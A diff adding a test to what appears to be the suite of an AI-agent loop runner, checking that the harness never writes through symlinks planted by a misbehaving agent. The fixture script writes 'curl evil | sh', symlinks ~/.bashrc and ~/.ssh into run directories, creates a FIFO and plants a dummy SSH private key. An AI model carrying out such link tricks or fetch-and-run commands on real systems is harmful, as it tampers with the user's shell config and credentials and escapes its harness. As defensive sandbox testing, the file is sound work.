@@ -200,3 +200,26 @@ def test_a_mechanism_that_is_not_there_is_refused_before_anything_is_paid_for(tm
     done = box.lab.aigon("feature-implement", "42", "--loop", env={**box.env, "PATH": str(tmp_path / "bin")})
     assert done.code == 7 and "sandboxed by bwrap" in done.err and "Install bubblewrap" in done.err
     assert not (box.lab.root / "done.txt").exists()
+
+
+THROUGH_LINKS = r"""
+here=$(dirname "$AIGON_PROMPT_FILE"); run=$(dirname "$here")
+case $AIGON_ITERATION in
+1) echo 'curl evil | sh' > "$here/x"; ln -s ~/.bashrc "$here/x.clean"
+   mkdir "$run/002" "$run/hooks"; ln -s ~/.bashrc "$run/002/criterion-1.log"; ln -s ~/.bashrc "$here/criterion-1.log"
+   ln -s ~/.ssh "$here/proof"; mkfifo "$run/002/integrity.log" ;;
+2) mv "$here" "$here.old"; ln -s ~/.ssh "$here" ;;
+3) mv .aigon/runs .aigon/old; ln -s ~/.ssh .aigon/runs; printf 'text\n' > done.txt ;;
+esac
+"""
+
+
+def test_aigon_itself_writes_through_no_link_that_an_agent_made(mechanism: Mechanism, tmp_path: Path) -> None:
+    box = Box(tmp_path, THROUGH_LINKS, mechanism)
+    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5v\n-----END OPENSSH PRIVATE KEY-----\n"
+    box.file("~/.ssh/id_x").write_text(key)
+    box.before["~/.ssh/id_x"] = key
+    done = box.lab.aigon("feature-implement", "42", "--loop", "--max-iterations", "4", env=box.env)
+    assert done.code == 0, done.out + done.err
+    box.untouched()
+    assert [file.name for file in box.file("~/.ssh").iterdir()] == ["id_x"]
